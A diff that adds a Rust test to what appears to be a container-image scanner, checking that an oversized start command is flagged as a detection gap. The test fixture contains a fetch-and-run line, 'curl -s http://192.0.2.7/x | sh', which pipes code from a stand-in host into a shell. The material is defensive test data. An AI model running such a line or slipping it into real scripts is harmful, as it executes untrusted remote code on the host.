@@ -82,6 +82,16 @@ fn other_places_that_run() {
 }
 
 #[test]
+fn a_command_beyond_all_bounds_is_a_gap() {
+    let mut image = Fixture::new();
+    image
+        .start(&["sh", "-c", &format!("echo {}; curl -s http://192.0.2.7/x | sh", "x".repeat(2 << 20))], &[]);
+    assert!(!image.run(&Downloads).gaps.is_empty());
+    image.start(&["sh", "-c", "exec app"], &[]);
+    assert!(image.run(&Downloads).gaps.is_empty());
+}
+
+#[test]
 fn the_history_explains() {
     for line in [
         "RUN /bin/sh -c curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y # buildkit",
